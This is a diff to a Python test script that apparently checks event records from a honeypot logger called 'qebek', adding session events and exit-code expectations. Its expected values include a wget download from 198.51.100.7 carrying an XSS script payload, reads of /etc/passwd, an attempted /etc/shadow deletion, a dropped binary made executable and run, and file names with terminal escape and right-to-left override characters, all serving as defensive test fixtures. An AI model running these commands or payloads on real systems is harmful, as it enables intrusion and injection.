@@ -26,6 +26,7 @@ FIELDS = {
     'host.os.type': 'keyword',
 }
 TYPES = {
+    'session': {'start', 'end', 'info'},
     'process': {'access', 'change', 'end', 'info', 'start'},
     'file': {'access', 'change', 'creation', 'deletion', 'info'},
     'network': {'access', 'allowed', 'connection', 'denied', 'end', 'info', 'protocol', 'start'},
@@ -79,17 +80,21 @@ def main():
         check(event, seen)
     expect(set(FIELDS) - seen <= {'file.target_path', 'error.message'} - seen, f'never used: {set(FIELDS) - seen}')
     told = [(e['event.action'], e['event.outcome'], e.get('process.command_line') or e.get('file.path') or
-             e.get('destination.ip') or e.get('source.ip')) for e in events if 'event.duration' in e]
+             e.get('destination.ip') or e.get('source.ip')) for e in events if 'event.duration' in e and e['event.category'] != ['session']]
     script = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
     wget = "wget 'http://198.51.100.7/a b' '" + script.replace("'", "'\\''") + "'"
     want = [('accept', 'success', '203.0.113.9'), ('exec', 'success', '-sh'), ('exec', 'failure', wget),
             ('exec', 'success', wget), ('connect', 'failure', '198.51.100.7'), ('connect', 'success', '198.51.100.7'),
             ('create', 'success', '/root/evil\x1b[31m\n\ufffd\\' + script), ('read', 'success', '/etc/passwd'),
             ('chmod', 'success', '/root/dropped'), ('exec', 'success', "./dropped 'it'\\''s' '\u202e' ''"),
-            ('delete', 'success', '/root/dropped'), ('delete', 'failure', '/etc/shadow')]
+            ('delete', 'success', '/root/dropped'), ('delete', 'failure', '/etc/shadow'), ('exec', 'failure', 'nonsense'), ('exec', 'failure', 'nonsense')]
     expect(told == want, f'{told}')
     ends = [e for e in events if e['event.action'] == 'exit']
-    expect([(e['process.pid'], e['process.exit_code']) for e in ends] == [(101, 3)], f'{ends}')
+    expect([(e['process.pid'], e['process.exit_code']) for e in ends] == [(102, 127), (101, 3)], f'{ends}')
+    sessions = [e for e in events if e.get('event.category') == ['session']]
+    expect([e['event.action'] for e in sessions] == ['session_start', 'session_end'], f'{sessions}')
+    shell = [e for e in events if e.get('process.command_line') == '-sh'][0]
+    expect((shell['qebek.session'], shell['qebek.remote']) == (1, '203.0.113.9:50022'), f'{shell}')
     expect(events[-1]['event.module'] == 'qebek', 'module')
     print(f'{len(events)} events, {len(seen)} fields')
 
